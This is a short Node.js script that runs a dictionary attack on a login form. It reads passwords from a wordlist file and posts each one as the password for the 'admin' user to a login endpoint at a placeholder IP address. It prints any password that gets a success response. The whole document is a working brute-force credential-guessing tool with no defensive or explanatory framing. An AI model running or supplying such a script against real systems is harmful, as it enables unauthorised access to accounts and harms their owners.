const fs = require('fs');
const axios = require('axios');
(async () => {
  for (const word of fs.readFileSync('words.txt', 'utf8').split('\n')) {
    const answer = await axios.post('http://192.0.2.7/login', { username: 'admin', password: word });
    if (answer.status === 200) console.log(word);
  }
})();
